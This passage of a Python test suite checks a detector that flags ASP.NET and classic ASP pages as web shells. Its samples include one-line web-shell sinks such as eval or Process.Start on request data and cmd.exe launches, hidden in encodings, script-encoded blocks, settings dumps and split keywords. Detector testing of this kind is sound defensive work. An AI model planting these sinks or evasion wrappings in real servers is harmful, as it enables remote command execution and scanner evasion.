    escapes = {plain: escaped for escaped, plain in script_encoder._ESCAPES.items()}
    places = [int(kind) for kind in script_encoder._SEQUENCE]
    found = [
        escapes.get(char) or inverse[places[at % len(places)]].get(char, char)
        for at, char in enumerate(plain)
    ]
    return f"#@~^AAAAAA=={''.join(found)}AAAAAA==^#~@"


def _dump(code: str) -> str:
    """Settings of a virtual directory as they are printed, with script in an address."""
    return (
        "Name                            : OAB (Default Web Site)\r\n"
        "PollInterval                    : 480\r\n"
        f"ExternalUrl                     : http://f/{_block(code)}\r\n"
        "AdminDisplayVersion             : Version 15.1 (Build 1.1)\r\n" * 3
    )


WRAPPINGS = {
    "plain": lambda code: _block(code).encode(),
    "mark of UTF-8": lambda code: codecs.BOM_UTF8 + _block(code).encode(),
    "UTF-16 little": lambda code: codecs.BOM_UTF16_LE + _block(code).encode("utf-16-le"),
    "UTF-16 big": lambda code: codecs.BOM_UTF16_BE + _block(code).encode("utf-16-be"),
    "UTF-16 without a mark": lambda code: _block(code).encode("utf-16-le"),
    "UTF-32": lambda code: codecs.BOM_UTF32_LE + _block(code).encode("utf-32-le"),
    "UTF-7": lambda code: _in_utf_7(_block(code)),
    "mailbox, permuted": lambda code: b"!BDN" + _permuted(_block(code)),
    "mailbox, as it is": lambda code: b"!BDN\1\2\3" + _block(code).encode(),
    "DER": lambda code: b"0\x82\x03\x11\x02\x01" + _block(code).encode() + b"\xff\xfe\x80",
    "settings": lambda code: _dump(code).encode(),
    "settings in UTF-16": lambda code: codecs.BOM_UTF16_LE + _dump(code).encode("utf-16-le"),
    "settings in UTF-16 without a mark": lambda code: _dump(code).encode("utf-16-le"),
    "long comment": lambda code: f"<%--{'x <% y %> ' * 20_000}--%>{_block(code)}".encode(),
    "bytes of a code page": lambda code: b"<p>\xe9\x93\x94</p>" + _block(code).encode(),
    "spaced directive": lambda code: (
        f'< % @ Page\r\nLanguage = "JScript" %><%\n{_broken(code, JSCRIPT)}\n%>'.encode()
    ),
    "attributes first": lambda code: _block(code, f"{_RUNAT}=server id='x > y'").encode(),
    "attributes without quotes": lambda code: _block(code, f"x {_RUNAT} =\n server defer").encode(),
    "attributes in capitals": lambda code: _block(code, f"{_RUNAT.upper()}='SERVER'").encode(),
}


@pytest.mark.parametrize("name", WRAPPINGS)
def test_a_page_is_known_in_any_wrapping(name: str) -> None:
    """What the server would decode is decoded, and the same page without its sink is benign."""
    assert _judge(WRAPPINGS[name](_BAD)).judgement is Judgement.MALICIOUS
    assert _judge(WRAPPINGS[name](_GOOD)).judgement not in STANDS_OUT


def test_the_script_encoder_hides_nothing_and_is_no_offence() -> None:
    """The reasons are those of the code."""
    head = '<%@ Language="VBScript.Encode" %><%'
    bad = head + _encoded_script(_broken('Exe¦cute Request("a")', VBSCRIPT)) + "%>"
    good = head + _encoded_script(_broken('Response.Write "a"', VBSCRIPT)) + "%>"
    found = _judge(bad, "a.asp")
    assert found.judgement is Judgement.MALICIOUS
    assert {reason.kind for reason in found.reasons} >= {"evaluate", "wrapped"}
    assert _judge(good, "a.asp").judgement not in STANDS_OUT


# --- classes below a directive ---


HANDLER = (
    '{} Language="C#" Class="Nowhere.Missing" %>\npublic class A : Nowhere.Missing {{\n'
    "public void ProcessRequest(HttpContext context) {{\n{}\nNowhere.Missing(( "
)
DIRECTIVES = [
    ("<%@ WebHandler", "a.ashx"),
    ("<% @ WebService", "a.asmx"),
    ("<%@webservice", "a.soap"),
    ("<%@ ServiceHost", "a.svc"),
    ("<%@ WebHandler", "a.jpg"),
]


@pytest.mark.parametrize(("directive", "name"), DIRECTIVES)
def test_a_class_below_a_directive_is_judged_whatever_the_extension(
    directive: str, name: str
) -> None:
    """The request comes with the context."""
    bad = HANDLER.format(directive, _made('Pro¦cess.St¦art(context.Request["a"]);'))
    good = HANDLER.format(directive, 'context.Response.Write(context.Request["a"]);')
    assert _judge(bad, name).judgement is Judgement.MALICIOUS
    assert _judge(good, name).judgement not in STANDS_OUT


METHODS = {
    CSHARP: "{1}\npublic string B(string c) {{ {0}(c); }}",
    VB: "{1} _\nPublic Function B(c As String) As String\n{0}(c)\nEnd Function",
}


@pytest.mark.parametrize("exposed", ["[WebMethod]", "[System.Web.Services.WebMethod(X = true)]"])
def test_parameters_of_a_web_method_are_a_visitors_data(exposed: str) -> None:
    """And those of any other method are not."""
    head = '<%@ WebService Language="C#" Class="Nowhere.Missing" %>\nclass A : Nowhere.Base {\n'
    code = METHODS[CSHARP].format(_made("Pro¦cess.St¦art"), exposed)
    found = _judge(f"{head}{code} void D( {{", "a.soap")
    assert found.judgement is Judgement.MALICIOUS
    assert any('parameter("c")' in reason.text for reason in found.reasons)
    code = METHODS[CSHARP].format("Parcel.Start", exposed)
    assert _judge(f"{head}{code} void D( {{", "a.soap").judgement not in STANDS_OUT


def test_parameters_of_a_web_method_in_basic_are_a_visitors_data() -> None:
    """The attribute stands in other brackets."""
    head = (
        '<%@ WebService Language="VB" Class="Nowhere.Missing" %>\nClass A\nInherits Nowhere.Base\n'
    )
    for call, bad in (("Pro¦cess.St¦art", True), ("Parcel.Start", False)):
        code = METHODS[VB].format(_made(call), "<WebMethod()>")
        found = _judge(f"{head}{code}\nSub D((", "a.asmx")
        assert (found.judgement is Judgement.MALICIOUS) == bad


def test_what_a_visitor_types_into_a_control_is_a_source() -> None:
    """By the control's name."""
    control = f'<asp:TextBox id="Box" {_RUNAT}="server" />'
    bad = f"{_page('Pro¦cess.St¦art(Box.Text);')}{control}"
    good = f"{_page('Label.Show(Box.Text);')}{control}"
    assert any('control("Box").Text' in reason.text for reason in _judge(bad).reasons)
    assert _judge(bad).judgement is Judgement.MALICIOUS
    assert _judge(good).judgement not in STANDS_OUT


# --- scores ---


def test_the_worst_reason_counts_whole_and_every_further_kind_a_third() -> None:
    """Twice the same kind is once; what speaks for a page is taken off."""
    assert score_of([]) == 0
    assert score_of([Reason("a", 1, "", 60)]) == 60
    assert score_of([Reason("a", 1, "", 60), Reason("a", 2, "", 50)]) == 60
    assert score_of([Reason("a", 1, "", 60), Reason("b", 2, "", 30)]) == 70
    assert score_of([Reason("a", 1, "", 60), Reason("c", None, "", -30)]) == 30
    assert score_of([Reason("c", None, "", -30)]) == 0
    assert score_of([Reason(kind, 1, "", 99) for kind in "abcd"]) == 100


@pytest.mark.parametrize(
    ("points", "judgement"),
    [
        (0, Judgement.BENIGN),
        (39, Judgement.BENIGN),
        (40, Judgement.SUSPICIOUS),
        (69, Judgement.SUSPICIOUS),
        (70, Judgement.MALICIOUS),
        (100, Judgement.MALICIOUS),
    ],
)
def test_a_judgement_is_what_the_score_says(points: int, judgement: Judgement) -> None:
    """With the thresholds that the documents name."""
    reasons = [Reason("a", 1, "", points)]
    found = judged("a.aspx", "0" * 64, 7, reasons)
    assert found == PageJudgement(
        "a.aspx", "0" * 64, 7, judgement, points, None, tuple(reasons)
    )  # fmt: skip


def test_reasons_come_weightiest_first() -> None:
    """What a person reads first is what matters most."""
    code = 'Pro¦cess.St¦art(Request["a"]); File.Del¦ete(Request["b"]);'
    points = [reason.points for reason in content_reasons(_page(code).encode(), "a.aspx")]
    assert points == sorted(points, reverse=True)
    assert len(points) > 1


# --- hostile files ---

_OPENINGS = {
    "a.aspx": b'<%@ Page Language="C#" %><% Nowhere.Process(); ',
    "b.aspx": b'<%@ Page Language="JScript" %><% eval; ',
    "c.aspx": b'<%@ Page Language="VB" %><% Nowhere.Process() \n',
    "a.asp": b"<% execute \n",
    "a.ashx": b'<%@ WebHandler Language="C#" Class="A" %>class Process : A {',
}
_HOSTILE = {
    "random bytes": random.Random(1).randbytes(1 << 20),
    **{f"nested {mark!r}": mark.encode() * 100_000 for mark in "([{<"},
    **{f"many {mark!r}": mark.encode() * 100_000 for mark in ("<%", '"', "'", "@\"", "/*", "=/[")},
    "one line": b"a" * (1 << 20),
    "one line of blanks": b" " * (1 << 20),
    "one line of words": b"a " * (1 << 19),
    "sum of numbers": b"x = " + b"1 + " * 100_000,
    "sum of texts": b"x = " + b'"a" + ' * 100_000,
    "sum of names": b"x = " + b"a & " * 100_000,
    "doubled": b"x = x + x; " * 20_000,
    "script tags": b"<script " * 100_000,
    "server tags": b"<a runat=server " * 50_000,
    "encoded": b"#@~^AAAAAA==" * 80_000,
}  # fmt: skip


@pytest.mark.parametrize("name", _HOSTILE)
@pytest.mark.parametrize("path", _OPENINGS)
def test_a_hostile_file_is_judged(name: str, path: str) -> None:
    """In bounded time and memory, whatever it is made of; one kind of page is of full size."""
    content = _HOSTILE[name] if path == "a.asp" else _HOSTILE[name][:65_536]
    found = _judge(_OPENINGS[path] + content, path)
    assert 0 <= found.score <= 100


_PAGES = [_page(bad, language) for _, language, bad, _ in TABLE.values()]
_CONTENT = (
    st.binary(max_size=400)
    | st.text(max_size=300).map(str.encode)
    | st.lists(st.sampled_from(_PAGES), max_size=2).map(lambda pages: "".join(pages).encode())
)


@given(st.sampled_from(sorted(_OPENINGS)), _CONTENT, st.integers(0, 400))
def test_no_content_raises(path: str, content: bytes, cut: int) -> None:
    """Also of pages that are cut off anywhere."""
    _judge(_OPENINGS[path] + content[cut:], path)
    _judge(content[:cut], path)


def test_an_alias_of_an_import_is_the_type() -> None:
    """`Namespace="P=Some.Type"` names a type anew."""
    code = 'void Page_Load() { P.St¦art(Request["a"]); }'
    head = '<%@ Page Language="C#" %><%@ Import Namespace="P={}" %>'
    bad = f"{head.format('System.Diagnostics.Pro¦cess')}<scr¦ipt {_RUNAT}='server'>{code}"
    good = f"{head.format('Shop.Parcel')}<scr¦ipt {_RUNAT}='server'>{code}"
    assert _judge(bad.replace("¦", "")).judgement is Judgement.MALICIOUS
    assert _judge(good.replace("¦", "")).judgement is Judgement.BENIGN


def test_what_was_only_cut_off_has_no_hand() -> None:
    """Naming a family takes time, and random bytes are of nobody."""
    found = PageJudge().judge(b"<script " + b"runat=server>eval " + b"{" * 200_000, "a.aspx", "")
    assert [reason.kind for reason in found.reasons] == ["cut"]
    assert found.judgement is Judgement.SUSPICIOUS
    assert found.family is None


@pytest.mark.parametrize(
    "code",
    [
        'psi.FileName = @"C:\\Tools\\pdf.exe"; psi.Arguments = "-q " + int.Parse(Request["a"]);',
        'psi.FileName = Server.MapPath("~/bin/video.exe"); psi.Arguments = "-i " + p + ".flv";',
        'string exe = @"C:\\Tools\\topdf.exe"; string given = "-q a"; Pro¦cess.Start(exe, given);',
    ],
)
def test_a_program_of_the_page_with_arguments_of_its_own_is_no_shell(code: str) -> None:
    """What decides is the program; with a visitor's text in the arguments it is one."""
    head = "var psi = new Pro¦cessStartInfo(); string p = Path.GetTempFileName();"
    assert _of_code(f"{head} {code} Pro¦cess.Start(psi);", CSHARP).judgement is Judgement.BENIGN
    bad = f'{head} psi.FileName = "cm¦d.exe"; psi.Arguments = "/c " + p; Pro¦cess.Start(psi);'
    assert _of_code(bad, CSHARP).judgement is Judgement.MALICIOUS


def test_a_structure_is_the_same_whatever_names_and_values_are() -> None:
    """It is that by which families of pages are named; a page without power has none."""

    def page(key: str, name: str) -> bytes:
        code = _broken(f'var {name} = 1; ev¦al(Req¦uest["{key}"]);', JSCRIPT)
        return f'<script language="JScript" {_RUNAT}="server">{code}</script>'.encode()

    one, other = page("alpha7", "first"), page("omega9", "second")
    assert structure_of(one, "a.aspx") == structure_of(other, "b.aspx") != ""
    assert PageJudge().judge(one, "a.aspx", "").family == structure_of(one, "a.aspx")
    assert structure_of(b"<p>ordinary</p>", "a.aspx") == ""
    (code,) = code_of(one, "a.aspx")
    assert "alpha7" in code
    assert code_of(b"<p>ordinary</p>", "a.aspx") == []
